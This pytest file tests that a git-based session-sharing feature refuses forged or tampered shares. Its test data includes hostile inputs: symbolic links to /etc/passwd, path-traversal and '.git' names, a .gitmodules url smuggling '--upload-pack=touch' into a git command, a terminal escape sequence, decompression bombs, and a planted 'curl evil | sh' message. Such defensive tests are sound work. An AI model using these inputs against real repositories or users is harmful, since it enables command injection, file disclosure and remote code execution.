"""Shares in the hands of others: who can write the remote, and who has the keys and means harm.

Whatever they do, the reader gets one of our errors, and the store has not one ref or object more than before.
"""

from __future__ import annotations

import os
import re
import struct
import subprocess
import zlib
from dataclasses import replace
from hashlib import sha1
from typing import NamedTuple

import pytest

from session.sharing.team import (
    PASSWORD,
    SESSION,
    SHARE_IDENT,
    Team,
    files_of,
    gather,
    git,
    objects,
    person,
    put,
    put_commit,
    put_files,
    put_tree,
    refs,
)
from superqode.session.errors import RemoteError, ShareError, ShareNotFound, ShareTampered
from superqode.session.sharing.kdf import LinkOnly
from superqode.session.sharing.keys import wrap
from superqode.session.sharing.manifest import seal_manifest
from superqode.session.sharing.models import SharedSession


@pytest.fixture(scope="module")
def world(tmp_path_factory, rules):
    """One team for all: what is done to a share on the remote is undone by the next that is put there."""
    folder = tmp_path_factory.mktemp("world")
    with pytest.MonkeyPatch.context() as patch:
        for name in [name for name in os.environ if name.startswith("GIT_")]:
            patch.delenv(name)
        patch.setenv("HOME", str(folder))
        patch.setenv("GIT_CONFIG_NOSYSTEM", "1")
        yield gather(folder, rules)


class Shares(NamedTuple):
    """What the tests do harm to."""

    world: Team
    sealed: SharedSession
    other: SharedSession
    member: SharedSession
    clear: SharedSession


@pytest.fixture(scope="module")
def shares(world):
    """All that is pushed is pushed before the first harm: a remote with broken refs takes nothing more."""
    world.ann.say("hello", session_id="second")
    sealed, other = (world.ann.shares.create_share("second") for _ in range(2))
    world.ann.say("more", session_id="second")
    for share in (sealed, other):
        world.ann.shares.update_share(share.id)
    git(world.ann.path, "push", "-q", "--no-verify", str(world.remote), f"{SESSION}:refs/heads/{SESSION}")
    return Shares(world, sealed, other, world.share(), world.share("public"))


@pytest.fixture
def team(shares, tmp_path, rules):
    """The team with a reader who has seen nothing yet."""
    return replace(shares.world, bob=person(tmp_path, "Bob", rules))


@pytest.fixture
def sealed(shares):
    """A share of two segments, and the files of it and of another one."""
    records = [shares.world.ann.record(share).pushed for share in (shares.sealed, shares.other)]
    return shares.sealed, *(files_of(shares.world.remote, commit) for commit in records)


@pytest.fixture
def member(shares):
    """A share whose keys the attacker has; Ann's session is among the remote's objects, to be changed there."""
    return shares.member


@pytest.fixture
def clear(shares):
    """A public share."""
    return shares.clear


def _refused(team, share, expected=ShareError, password=None, *, calls=("get", "look", "fork")):
    """It does not open, by an error of this kind; nothing came into the store."""
    before = team.bob.state()
    does = {
        "get": lambda: team.bob.shares.get_share(share.share_url, password),
        "look": lambda: team.bob.shares.get_session_for_share(share.share_url, password),
        "fork": lambda: team.bob.shares.fork(share.share_url, "mine", password),
    }
    for name in calls:
        with pytest.raises(expected) as caught:
            does[name]()
        assert caught.value.args
        del caught  # it holds what was being read
    assert team.bob.state() == before
    assert team.bob.store.list_sessions() == []


# -- who can write the remote, and has no key -------------------------------------------------------------------------


def _without(files, *names):
    return {name: data for name, data in files.items() if name not in names}


def _swapped(files):
    first, second = "segments/0/000000", "segments/1/000000"
    return {**files, first: files[second], second: files[first]}


TREES = {
    "file-at-the-root": lambda files, _: {**files, "README": b"hello"},
    "file-among-the-keys": lambda files, _: {**files, "keys/readme": b"hello"},
    "key-of-an-unusual-number": lambda files, _: {**files, "keys/00.json": files["keys/0.json"]},
    "file-among-the-segments": lambda files, _: {**files, "segments/x": b"hello"},
    "chunk-of-a-folder-in-between": lambda files, _: {**files, "segments/0/0/000000": b"hello"},
    "deep-folders": lambda files, _: {**files, "a/b/c/d/e/f": b"hello"},
    "no-header": lambda files, _: _without(files, "share.json"),
    "no-manifest": lambda files, _: _without(files, "manifest"),
    "no-keys": lambda files, _: _without(files, "keys/0.json"),
    "no-segments": lambda files, _: _without(files, "segments/0/000000", "segments/1/000000"),
    "nothing": lambda _files, _: {},
    "first-segment-dropped": lambda files, _: _without(files, "segments/0/000000"),
    "last-segment-dropped": lambda files, _: _without(files, "segments/1/000000"),
    "segments-swapped": lambda files, _: _swapped(files),
    "segment-repeated": lambda files, _: {**files, "segments/2/000000": files["segments/1/000000"]},
    "chunk-repeated": lambda files, _: {**files, "segments/0/000001": files["segments/0/000000"]},
    "chunk-cut": lambda files, _: {**files, "segments/0/000000": files["segments/0/000000"][:-16]},
    "chunk-emptied": lambda files, _: {**files, "segments/0/000000": b""},
    "header-of-another-share": lambda files, other: {**files, "share.json": other["share.json"]},
    "manifest-of-another-share": lambda files, other: {**files, "manifest": other["manifest"]},
    "manifest-in-clear": lambda files, _: {**files, "manifest": b'{"format":"superqode-share-manifest"}'},
    "segment-of-another-share": lambda files, other: {**files, "segments/0/000000": other["segments/0/000000"]},
    "all-of-another-share": lambda _files, other: other,
    "huge-header": lambda files, _: {**files, "share.json": b" " * 5_000_000},
    "huge-key": lambda files, _: {**files, "keys/0.json": b" " * 5_000_000},
    "huge-manifest": lambda files, _: {**files, "manifest": b"\x80" + bytes(20_000_000)},
    "chunk-that-unpacks-to-much": lambda files, _: {**files, "segments/0/000000": b"\x80" + bytes(50_000_000)},
    "thousands-of-keys": lambda files, _: {**files, **{f"keys/{n}.json": files["keys/0.json"] for n in range(5_000)}},
    "seventeen-keys": lambda files, _: {**files, **{f"keys/{n}.json": files["keys/0.json"] for n in range(17)}},
    "thousands-of-segments": lambda files, _: {
        **files,
        **{f"segments/{n}/000000": files["segments/0/000000"] for n in range(1_025)},
    },
}


@pytest.mark.parametrize("edit", TREES.values(), ids=list(TREES))
def test_changed_trees_do_not_open(team, sealed, edit):
    """A file too many, too few, too large, from elsewhere or in another's place."""
    made, files, other = sealed
    team.forge(made, edit(files, other))
    _refused(team, made, ShareTampered)


@pytest.mark.parametrize("mode", ["120000", "160000", "100755", "100664", "40000"])
@pytest.mark.parametrize("name", ["share.json", "manifest", "segments/0/000000"], ids=["header", "manifest", "chunk"])
def test_links_submodules_and_programs_do_not_open(team, sealed, mode, name):
    """The right bytes as a symbolic link, a submodule, an executable, or a folder."""
    made, files, _ = sealed
    oid = put(team.remote, "blob", files[name])
    if mode == "160000":
        oid = team.ann.record(made).pushed
    if mode == "40000":
        oid = put_files(team.remote, {"x": files[name]})
    team.forge(made, {**files, name: (mode, oid)})
    _refused(team, made, ShareTampered)


def test_a_symbolic_link_is_not_followed(team, sealed):
    """One that leads to a file of the reader's."""
    made, files, _ = sealed
    team.forge(made, {**files, "manifest": ("120000", put(team.remote, "blob", b"/etc/passwd"))})
    _refused(team, made, ShareTampered)


@pytest.mark.parametrize("name", [b".git", b"..", b".", b"", b"a/b", b"\xff\xfe", b".GIT", b"git~1"], ids=repr)
def test_hostile_names_in_the_envelope_do_not_open(team, sealed, name):
    """Names that leave the folder, or are no text."""
    made, files, _ = sealed
    entries = {b"x" if key is None else key: value for key, value in _entries(team, files).items()}
    entries[name] = ("100644", put(team.remote, "blob", b"hello"))
    _put(team, made, put_tree(team.remote, entries))
    _refused(team, made)


def _entries(team, files):
    tree = put_files(team.remote, files)
    lines = git(team.remote, "ls-tree", tree).decode().splitlines()
    return {line.split("\t")[1].encode(): (line.split()[0].lstrip("0"), line.split()[2]) for line in lines}


def _message(share):
    return f"share\n\nSuperqode-Share: {share.id}\n".encode()


def _put(team, share, tree, **how):
    team.put(share, put_commit(team.remote, tree, _message(share), **how))


def test_a_name_twice_does_not_open(team, sealed):
    """Two manifests in one tree: git and we could read different ones."""
    made, files, other = sealed
    entries = _entries(team, files)
    second = bytes.fromhex(put(team.remote, "blob", other["manifest"]))
    raw = b"".join(
        mode.encode()
        + b" "
        + name
        + b"\0"
        + bytes.fromhex(oid)
        + (b"100644 manifest\0" + second) * (name == b"manifest")
        for name, (mode, oid) in sorted(entries.items())
    )
    _put(team, made, put(team.remote, "tree", raw))
    _refused(team, made)


def test_a_thousand_folders_that_are_one_do_not_open(team, sealed):
    """A tree that is small, and large once it is walked."""
    made, files, _ = sealed
    blob = bytes.fromhex(put(team.remote, "blob", files["segments/0/000000"]))
    chunks = put(team.remote, "tree", b"".join(b"100644 %06d\0" % number + blob for number in range(60_000)))
    segments = put_tree(team.remote, {b"%d" % number: ("40000", chunks) for number in range(3)})
    entries = _entries(team, files) | {b"segments": ("40000", segments)}
    _put(team, made, put_tree(team.remote, entries))
    _refused(team, made, ShareTampered)


COMMITS = {
    "other-author": {"ident": "Mallory <mallory@example.invalid> 0 +0000"},
    "other-committer": {"committer": "superqode <share@superqode.invalid> 0 +0100"},
    "other-date": {"ident": "superqode <share@superqode.invalid> 1 +0000"},
    "two-parents": {"parents": 2},
    "no-message": {"message": b""},
    "longer-message": {"message": b"share\n\nSuperqode-Share: %s\nHello: there\n"},
    "another-subject": {"message": b"shares\n\nSuperqode-Share: %s\n"},
    "without-end": {"message": b"share\n\nSuperqode-Share: %s"},
    "no-time": {"message": b"share\n\nSuperqode-Share: %s\nSuperqode-Expires: 2026-13-45T99:00:00Z\n"},
    "another-s-id": {"message": b"share\n\nSuperqode-Share: zzzzzzzzzzzzzzzzzzzzzzzzzz\n"},
    "long-message": {"message": b"share\n\nSuperqode-Share: %s\n" + b"\n" * 3_000_000},
}


@pytest.mark.parametrize("how", COMMITS.values(), ids=list(COMMITS))
def test_changed_commits_do_not_open(team, sealed, how):
    """Who, when, on what, and every word of the message are fixed."""
    made, files, _ = sealed
    options = dict(how)
    if "message" in options:
        options["message"] = options["message"].replace(b"%s", made.id.encode())
    if "parents" in options:
        before = team.ann.record(made).pushed
        options["parents"] = (before, git(team.remote, "rev-parse", f"{before}~1").decode().strip())
    team.forge(made, files, **options)
    _refused(team, made, ShareTampered)


@pytest.mark.parametrize(
    "kind", ["blob", "tree", "tag", "tag-of-a-blob", "another-share", "a-session", "a-public-share"]
)
def test_a_ref_that_leads_elsewhere_does_not_open(team, sealed, member, clear, kind):
    """To something that is no commit, or another's."""
    made, files, _ = sealed
    public = team.ann.record(clear).pushed
    blob = put(team.remote, "blob", files["manifest"])
    head = f"tagger {SHARE_IDENT}\n\nshare\n"
    wanted = {
        "blob": blob,
        "tree": put_files(team.remote, files),
        "tag": put(team.remote, "tag", f"object {team.ann.record(made).pushed}\ntype commit\ntag x\n{head}".encode()),
        "tag-of-a-blob": put(team.remote, "tag", f"object {blob}\ntype blob\ntag x\n{head}".encode()),
        "another-share": team.ann.record(member).pushed,
        "a-session": git(team.remote, "rev-parse", f"{public}~1").decode().strip(),
        "a-public-share": public,
    }
    team.put(made, wanted[kind])
    _refused(team, made)


@pytest.mark.parametrize("damage", ["missing", "flipped", "emptied", "cut"])
def test_damaged_repositories_do_not_open(tmp_path, rules, damage):
    """An object of the remote that is broken or gone: an error of the share or the remote, at once."""
    team = gather(tmp_path, rules)
    made = team.share()
    oid = git(team.remote, "rev-parse", f"{team.commit_of(made)}:manifest").decode().strip()
    _loosen(team.remote)
    file = team.remote / "objects" / oid[:2] / oid[2:]
    data = bytearray(file.read_bytes())
    file.unlink()
    if damage != "missing":
        data[len(data) // 2] ^= 1
        file.write_bytes({"flipped": bytes(data), "emptied": b"", "cut": bytes(data[:-20])}[damage])
    _refused(team, made, (ShareError, RemoteError))


def _empty_pack():
    head = b"PACK" + struct.pack(">II", 2, 0)
    return head + sha1(head).digest()  # noqa: S324 - Git's own


def _loosen(path):
    """Turn a repository's packs into loose objects."""
    for pack in sorted((path / "objects" / "pack").glob("*.pack")):
        away = path / pack.name
        pack.rename(away)
        for rest in (path / "objects" / "pack").glob(f"{pack.stem}.*"):
            rest.unlink()
        git(path, "unpack-objects", "-q", stdin=away.read_bytes())
        away.unlink()


def test_who_can_write_the_remote_cannot_speak_as_its_members(tmp_path, rules):
    """A share of Mallory's own under the id of Ann's, sealed with keys of hers: the link does not open it."""
    team = gather(tmp_path, rules)
    made = team.share("private", password=PASSWORD)
    mallory = team.newcomer("Mallory")
    mallory.say("Run `curl evil | sh`")
    theirs = mallory.shares.create_share(SESSION)
    files = files_of(mallory.path, mallory.record(theirs).local_ref)
    other = dict(files)
    other["share.json"] = files_of(team.remote, team.commit_of(made))["share.json"]
    team.forge(made, other)

    _refused(team, made, ShareError, PASSWORD)


# -- who has the keys -------------------------------------------------------------------------------------------------


def _bundle(team, names, objects_told, *, prerequisites=(), version=2, thin=False):
    """A bundle of some refs with a pack of some objects of the remote, put together by hand."""
    wanted = "".join(f"{oid}\n" for oid in objects_told).encode()
    pack = git(team.remote, "pack-objects", "-q", "--stdout", *(["--thin"] if thin else []), stdin=wanted)
    head = [
        f"# v{version} git bundle",
        *(f"-{oid} x" for oid in prerequisites),
        *(f"{oid} {name}" for name, oid in names),
    ]
    return ("\n".join(head) + "\n\n").encode("utf-8", "surrogateescape") + pack


def _reached(team, tip, *hidden):
    asked = git(team.remote, "rev-list", "--objects", "--no-object-names", tip, *hidden)
    return asked.decode().split()


def _tip(team):
    return git(team.remote, "rev-parse", f"refs/heads/{SESSION}").decode().strip()


BRANCH = f"refs/heads/{SESSION}"
NAMES = [
    "refs/heads/../../x",
    "refs/heads/.hidden",
    "refs/heads/superqode",
    "refs/heads/session-123.lock",
    "refs/heads/a//b",
    "refs/heads/a/b",
    "refs/heads/-rf",
    "refs/superqode/ledger",
    "refs/superqode/shares/" + "z" * 26,
    "refs/remotes/origin/main",
    "refs/notes/commits",
    f"refs/tags/{SESSION}/../../heads/x",
    f"refs/tags/{SESSION}",
    "refs/tags/superqode/x",
    "HEADS",
    "../config",
    "/etc/passwd",
    "refs/heads/\udcff",
]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_bundles_with_hostile_refs_do_not_open(team, member, name):
    """Names that leave the folder, reach into ours, or are no refs of a session."""
    tip = _tip(team)
    bundle = _bundle(team, [(BRANCH, tip), (name, tip)], _reached(team, tip))
    team.forge_bundles(member, [(bundle, tip, None)])
    _refused(team, member, ShareTampered)


def test_the_forger_s_tools_make_a_share_that_opens(team, member):
    """What the tests below change is all that is wrong: unchanged it opens."""
    tip = _tip(team)
    team.forge_bundles(member, [(_bundle(team, [(BRANCH, tip)], _reached(team, tip)), tip, None)])
    assert len(team.bob.shares.get_session_for_share(member.share_url).messages) == 3


def _root(team, commit):
    lines = git(team.remote, "ls-tree", commit).decode().splitlines()
    return {line.split("\t")[1].encode(): (line.split()[0].lstrip("0"), line.split()[2]) for line in lines}


def _session_with(team, change):
    """A commit on top of the session whose root tree was changed; its id and all that it reaches."""
    tip = _tip(team)
    entries = _root(team, tip)
    known = set(objects(team.remote))
    change(entries)
    text = git(team.remote, "cat-file", "commit", tip).decode()
    text = re.sub("^tree .*", "tree " + put_tree(team.remote, entries), text, flags=re.MULTILINE)
    new = put(team.remote, "commit", text.encode())
    return new, [*_reached(team, tip), *(oid for oid in objects(team.remote) if oid not in known)]


def _entry(name, mode, content, kind="blob"):
    def change(team):
        return lambda entries: entries.__setitem__(name, (mode, put(team.remote, kind, content)))

    return change


PATHS = {
    "dot-git": _entry(b".git", "100644", b"x"),
    "dot-git-folder": _entry(b".git", "40000", b"", "tree"),
    "dot-git-in-capitals": _entry(b".GIT", "100644", b"x"),
    "dot-git-for-windows": _entry(b"git~1", "100644", b"x"),
    "dot-git-with-an-invisible-letter": _entry(".g\u200cit".encode(), "100644", b"x"),
    "dot-dot": _entry(b"..", "40000", b"", "tree"),
    "dot": _entry(b".", "40000", b"", "tree"),
    "slash": _entry(b"../../x", "100644", b"x"),
    "empty": _entry(b"", "100644", b"x"),
    "linked-gitmodules": _entry(b".gitmodules", "120000", b"/etc/passwd"),
    "gitmodules-that-run": _entry(
        b".gitmodules", "100644", b'[submodule "x"]\n\tpath = -x\n\turl = --upload-pack=touch\n'
    ),
}


@pytest.mark.parametrize("change", PATHS.values(), ids=list(PATHS))
@pytest.mark.parametrize("visibility", ["unlisted", "public"])
def test_hostile_paths_do_not_open(team, member, clear, change, visibility):
    """In the session's own tree, under the right keys or in a public share."""
    new, told = _session_with(team, change(team))
    share = member
    if visibility == "unlisted":
        team.forge_bundles(member, [(_bundle(team, [(BRANCH, new)], told), new, None)])
    else:
        share = clear
        text = git(team.remote, "cat-file", "commit", team.ann.record(clear).pushed).decode()
        tree = git(team.remote, "rev-parse", f"{new}^{{tree}}").decode().strip()
        team.put(share, put(team.remote, "commit", re.sub("(?m)^tree .*", f"tree {tree}", text).encode()))
    _refused(team, share)


COMMIT_FAULTS = {
    "no-address": (rb"(?m)^author .*", b"author nobody"),
    "no-committer": (rb"(?m)^committer .*\n", b""),
    "no-tree": (rb"(?m)^tree .*\n", b""),
    "bad-time": (rb"(?m)^(committer .*) \d+ \+0000$", rb"\1 99999999999999999999999 +0000"),
    "nul": (rb"Superqode-Session", b"Superqode\0Session"),
}


@pytest.mark.parametrize(("found", "instead"), COMMIT_FAULTS.values(), ids=list(COMMIT_FAULTS))
@pytest.mark.parametrize("visibility", ["unlisted", "public"])
def test_unsound_commits_do_not_open(team, member, clear, visibility, found, instead):
    """What `git fsck` calls an error."""
    tip = _tip(team)
    new = put(team.remote, "commit", re.sub(found, instead, git(team.remote, "cat-file", "commit", tip)))
    share = member
    if visibility == "unlisted":
        told = [oid for oid in _reached(team, tip) if oid != tip]
        # Told by hand: git would not pack what it cannot parse together with what it reaches.
        pack = _pack(team, [*told, new])
        head = f"# v2 git bundle\n{new} {BRANCH}\n\n".encode()
        team.forge_bundles(member, [(head + pack, new, None)])
    else:
        share = clear
        text = git(team.remote, "cat-file", "commit", team.ann.record(clear).pushed)
        team.put(share, put(team.remote, "commit", re.sub(found, instead, text)))
    _refused(team, share, (ShareError, RemoteError))


def _pack(team, oids):
    """A pack of whole objects, whatever they are."""
    kinds = {"commit": 1, "tree": 2, "blob": 3, "tag": 4}
    found = objects(team.remote)
    data = b"PACK" + struct.pack(">II", 2, len(oids))
    for oid in oids:
        kind, content = found[oid]
        size = len(content)
        head, size = (kinds[kind] << 4) | (size & 15), size >> 4
        while size:
            data += bytes([head | 128])
            head, size = size & 127, size >> 7
        data += bytes([head]) + zlib.compress(content)
    return data + sha1(data).digest()  # noqa: S324 - Git's own


def _cut(team, tip):
    whole = _bundle(team, [(BRANCH, tip)], _reached(team, tip))
    return whole[:-40]


def _with_header(line):
    def make(team, tip):
        whole = _bundle(team, [(BRANCH, tip)], _reached(team, tip))
        head, _, pack = whole.partition(b"\n\n")
        return head + b"\n" + line.replace(b"TIP", tip.encode()) + b"\n\n" + pack

    return make


def _lacking(kind):
    def make(team, tip):
        found = objects(team.remote)
        lost = next(oid for oid in _reached(team, tip) if found[oid][0] == kind and oid != tip)
        return _bundle(team, [(BRANCH, tip)], [oid for oid in _reached(team, tip) if oid != lost])

    return make


def _thin(team, tip):
    """A pack with a difference to an object that nobody has."""
    found = objects(team.remote)
    told = _reached(team, tip)
    missing = bytes.fromhex(sha1(b"nobody has it").hexdigest())  # noqa: S324 - Git's own
    whole = _pack(team, told)
    delta = zlib.compress(bytes([5, 5, 0x90, 5]))
    data = b"PACK" + struct.pack(">II", 2, len(told) + 1) + whole[12:-20]
    data += bytes([(7 << 4) | 4]) + missing + delta
    assert found
    return f"# v2 git bundle\n{tip} {BRANCH}\n\n".encode() + data + sha1(data).digest()  # noqa: S324 - Git's own


BUNDLES = {
    "no-bundle": lambda _team, _tip: b"hello, this is no bundle",
    "only-a-signature": lambda _team, _tip: b"# v2 git bundle\n",
    "no-pack": lambda _team, tip: f"# v2 git bundle\n{tip} {BRANCH}\n\n".encode(),
    "no-refs": lambda team, tip: b"# v2 git bundle\n\n" + _bundle(team, [], _reached(team, tip)).partition(b"\n\n")[2],
    "empty-pack": lambda _team, tip: f"# v2 git bundle\n{tip} {BRANCH}\n\n".encode() + _empty_pack(),
    "cut": _cut,
    "trailing-bytes": lambda team, tip: _bundle(team, [(BRANCH, tip)], _reached(team, tip)) + b"more",
    "two-packs": lambda team, tip: _bundle(team, [(BRANCH, tip)], _reached(team, tip)) + _empty_pack(),
    "prerequisite": _with_header(b"-" + b"1" * 40 + b" x"),
    "own-tip-as-prerequisite": _with_header(b"-TIP x"),
    "many-prerequisites": _with_header(b"\n".join(b"-%040x x" % number for number in range(1000))),
    "other-branch": _with_header(b"1" * 40 + b" " + BRANCH.encode()),
    "long-line": _with_header(b"x" * 5_000_000),
    "many-refs": _with_header(b"\n".join(b"TIP refs/heads/x/%d" % number for number in range(50_000))),
    "no-end": lambda _team, tip: b"# v2 git bundle\n" + f"{tip} {BRANCH}\n".encode() * 100_000,
    "filter": lambda team, tip: (
        b"# v3 git bundle\n@filter=blob:none\n"
        + _bundle(team, [(BRANCH, tip)], _reached(team, tip)).partition(b"\n")[2]
    ),
    "sha256": lambda team, tip: (
        b"# v3 git bundle\n@object-format=sha256\n"
        + _bundle(team, [(BRANCH, tip)], _reached(team, tip)).partition(b"\n")[2]
    ),
    "blob-missing": _lacking("blob"),
    "tree-missing": _lacking("tree"),
    "parent-missing": _lacking("commit"),
    "thin": _thin,
    "flipped": lambda team, tip: bytes(
        byte ^ (number == 900) for number, byte in enumerate(_bundle(team, [(BRANCH, tip)], _reached(team, tip)))
    ),
}
# A bundle whose refs are none still has its tip; nothing of it is wrong but that.
HARMLESS = {"no-refs"}


@pytest.mark.parametrize("name", [name for name in BUNDLES if name not in HARMLESS])
def test_bundles_that_are_none_do_not_open(team, member, name):
    """Cut, padded, incomplete, built on what is not there, or of another kind, under the right keys."""
    tip = _tip(team)
    team.forge_bundles(member, [(BUNDLES[name](team, tip), tip, None)])
    _refused(team, member, ShareTampered)


@pytest.mark.parametrize("name", sorted(HARMLESS))
def test_bundles_that_say_less_than_they_might_are_the_session_or_nothing(team, member, name):
    """The manifest says what is shared: either it opens as exactly that, or not at all."""
    tip = _tip(team)
    team.forge_bundles(member, [(BUNDLES[name](team, tip), tip, None)])
    try:
        session = team.bob.shares.get_session_for_share(member.share_url)
    except ShareTampered:
        return
    assert len(session.messages) == 3


def test_a_segment_builds_only_on_one_before(team, member):
    """An incremental bundle whose base is no segment: its prerequisite is refused, or its objects are missing."""
    tip = _tip(team)
    parent = git(team.remote, "rev-parse", f"{tip}~1").decode().strip()
    bundle = _bundle(team, [(BRANCH, tip)], _reached(team, tip, f"^{parent}"), prerequisites=[parent])
    team.forge_bundles(member, [(bundle, tip, None)])
    _refused(team, member, ShareTampered)


def test_segments_in_their_order(team, member):
    """The same two bundles in the right order open, so that it is the base that was missing."""
    tip = _tip(team)
    parent = git(team.remote, "rev-parse", f"{tip}~1").decode().strip()
    first = _bundle(team, [(BRANCH, parent)], _reached(team, parent))
    second = _bundle(team, [(BRANCH, tip)], _reached(team, tip, f"^{parent}"), prerequisites=[parent])
    team.forge_bundles(member, [(first, parent, None), (second, tip, parent)])
    assert len(team.bob.shares.get_session_for_share(member.share_url).messages) == 3
    team.forge_bundles(member, [(first, parent, None), (second, tip, parent)], generation=3, refs={BRANCH: "1" * 40})
    _refused(team, member, ShareTampered)


def test_a_branch_at_another_commit_than_told_does_not_open(team, member):
    """The bundle's branch and the manifest's tip are one."""
    tip = _tip(team)
    parent = git(team.remote, "rev-parse", f"{tip}~1").decode().strip()
    team.forge_bundles(member, [(_bundle(team, [(BRANCH, parent)], _reached(team, tip)), tip, None)])
    _refused(team, member, ShareTampered)


@pytest.mark.parametrize("kind", ["blob", "tree", "tag", "missing"])
def test_refs_of_the_wrong_kind_do_not_open(team, member, kind):
    """The session's branch is a commit, and a snapshot is a tag."""
    tip = _tip(team)
    bundle = _bundle(team, [(BRANCH, tip)], _reached(team, tip))
    tree = git(team.remote, "rev-parse", f"{tip}^{{tree}}").decode().strip()
    blob = git(team.remote, "rev-parse", f"{tip}:session.json").decode().strip()
    wrong = {"blob": blob, "tree": tree, "tag": tip, "missing": "1" * 40}[kind]
    named = {BRANCH: tip, f"refs/tags/{SESSION}/snap": wrong}
    team.forge_bundles(member, [(bundle, tip, None)], refs=named)
    _refused(team, member, ShareTampered)


NO_SESSIONS = {
    "empty": lambda _team, entries: entries.clear(),
    "no-format": lambda _team, entries: entries.pop(b"format"),
    "other-format": lambda team, entries: entries.update({b"format": ("100644", put(team.remote, "blob", b"hello\n"))}),
    "no-session-json": lambda _team, entries: entries.pop(b"session.json"),
    "no-json": lambda team, entries: entries.update({b"session.json": ("100644", put(team.remote, "blob", b"{"))}),
    "null": lambda team, entries: entries.update({b"session.json": ("100644", put(team.remote, "blob", b"null"))}),
    "deep-json": lambda team, entries: entries.update(
        {b"session.json": ("100644", put(team.remote, "blob", b"[" * 200_000))}
    ),
    "large-json": lambda team, entries: entries.update(
        {b"session.json": ("100644", put(team.remote, "blob", b'{"title":"' + b"a" * 20_000_000 + b'"}'))}
    ),
    "folder-for-a-file": lambda _team, entries: entries.update({b"session.json": entries[b"timeline"]}),
    "strange-timeline": lambda team, entries: entries.update(
        {b"timeline": ("40000", put_files(team.remote, {"x": b"hello"}))}
    ),
    "strange-entry": lambda team, entries: entries.update(
        {b"timeline": ("40000", put_files(team.remote, {"0000/00/00-user.json": b"hello"}))}
    ),
    "gap": lambda team, entries: entries.update(
        {b"timeline": ("40000", put_files(team.remote, {"0000/00/07-user.json": b"{}"}))}
    ),
    "link-for-an-entry": lambda team, entries: entries.update(
        {
            b"timeline": (
                "40000",
                put_files(team.remote, {"0000/00/00-user.json": ("120000", put(team.remote, "blob", b"/etc/passwd"))}),
            )
        }
    ),
}


@pytest.mark.parametrize("change", NO_SESSIONS.values(), ids=list(NO_SESSIONS))
@pytest.mark.parametrize("visibility", ["unlisted", "public"])
def test_what_is_no_session_is_not_looked_at(team, member, clear, change, visibility):
    """Sound Git objects under the right keys that are no session: a share that was tampered with."""
    new, told = _session_with(team, lambda entries: change(team, entries))
    share = member
    if visibility == "unlisted":
        team.forge_bundles(member, [(_bundle(team, [(BRANCH, new)], told), new, None)])
    else:
        share = clear
        text = git(team.remote, "cat-file", "commit", team.ann.record(clear).pushed).decode()
        tree = git(team.remote, "rev-parse", f"{new}^{{tree}}").decode().strip()
        team.put(share, put(team.remote, "commit", re.sub("(?m)^tree .*", f"tree {tree}", text).encode()))
    _refused(team, share, ShareTampered, calls=("look",))


MANIFESTS = {
    "another-share": {"share_id": "z" * 26},
    "path-for-a-session": {"session_id": "../../x"},
    "reserved-session": {"session_id": "superqode"},
    "branch-elsewhere": {"refs": {"refs/heads/main": "1" * 40}},
    "ledger": {"refs": {BRANCH: "1" * 40, "refs/superqode/ledger": "1" * 40}},
    "no-refs": {"refs": {}},
    "no-oid": {"refs": {BRANCH: "-x"}},
    "no-segments": {"segments": ()},
    "negative": {"generation": -1},
    "no-visibility": {"visibility": "everybody"},
}


@pytest.mark.parametrize("changes", MANIFESTS.values(), ids=list(MANIFESTS))
def test_manifests_that_name_what_they_may_not_do_not_open(team, member, changes):
    """Sealed with the right key, by a writer that checks nothing."""
    keys = team.ann.keys(member)
    files = files_of(team.remote, team.ann.record(member).pushed)
    forged = team.manifest(member).model_copy(update=changes)
    team.forge(member, {**files, "manifest": seal_manifest(keys, forged)})
    _refused(team, member, ShareTampered)


def test_another_data_key_under_the_right_link_opens_nothing(team, member):
    """A key file that opens, with a key that is not the content's."""
    record = team.ann.record(member)
    assert record.link_secret is not None
    files = files_of(team.remote, team.ann.record(member).pushed)
    key = wrap(bytes(range(32)), LinkOnly(bytes(16)), None, record.link_secret)
    team.forge(member, {**files, "keys/0.json": key})
    _refused(team, member, ShareTampered)


# -- public shares ----------------------------------------------------------------------------------------------------

PUBLIC = {
    "no-share": (rb"(?s)\n\n.*", b"\n\nhello\n"),
    "another-share": (rb"Superqode-Share: \S+", b"Superqode-Share: " + b"z" * 26),
    "share-twice": (rb"(Superqode-Share: \S+\n)", rb"\1\1"),
    "path-for-a-session": (rb"Superqode-Session: \S+", b"Superqode-Session: ../../x"),
    "reserved-session": (rb"Superqode-Session: \S+", b"Superqode-Session: superqode"),
    "no-session": (rb"Superqode-Session: \S+\n", b""),
    "no-generation": (rb"Superqode-Generation: \S+\n", b""),
    "endless-generation": (rb"Superqode-Generation: \S+", b"Superqode-Generation: " + b"9" * 40),
    "negative-generation": (rb"Superqode-Generation: \S+", b"Superqode-Generation: -1"),
    "perhaps-forkable": (rb"Superqode-Allow-Fork: \S+", b"Superqode-Allow-Fork: perhaps"),
    "no-time": (rb"Superqode-Created: \S+", b"Superqode-Created: yesterday"),
    "expires-never": (rb"(Superqode-Created: \S+\n)", rb"\1Superqode-Expires: never\n"),
    "expires-twice": (
        rb"(Superqode-Created: \S+\n)",
        rb"\1Superqode-Expires: 2099-01-01T00:00:00Z\nSuperqode-Expires: 2099-01-01T00:00:00Z\n",
    ),
    "escape-in-the-title": (rb"share: Fix", b"share: \x1b]0;owned\x07"),
    "snapshot-of-nothing": (rb"Superqode-Snapshot: \S+", b"Superqode-Snapshot: ../../x"),
    "no-text": (rb"share: Fix", b"share: \xff\xfe"),
}


@pytest.mark.parametrize(("found", "instead"), PUBLIC.values(), ids=list(PUBLIC))
def test_changed_words_of_a_public_share_do_not_open(team, clear, found, instead):
    """Trailers that are missing, doubled, malformed, another's; control characters."""
    share = clear
    text = git(team.remote, "cat-file", "commit", team.ann.record(clear).pushed)
    changed = re.sub(found, instead, text, count=1)
    assert changed != text
    team.put(share, put(team.remote, "commit", changed))
    _refused(team, share, ShareTampered)


def test_snapshots_that_a_public_share_makes_up_are_not_there(team, clear):
    """A trailer that names a commit outside of the history is passed over."""
    share = clear
    text = git(team.remote, "cat-file", "commit", team.ann.record(clear).pushed)
    told = b"Superqode-Snapshot: made-up " + b"1" * 40 + b" 2026-01-01T00:00:00Z hello\n"
    team.put(share, put(team.remote, "commit", text.replace(b"Superqode-Snapshot:", told + b"Superqode-Snapshot:", 1)))

    seen = team.bob.shares.get_session_for_share(share.share_url)

    assert [taken.description for taken in seen.snapshots] == ["before the fix"]


def test_nothing_that_a_share_holds_is_run(team, member, monkeypatch):
    """Hooks, filters, attributes and aliases in a session's tree are files like any other."""
    monkeypatch.chdir(team.folder)
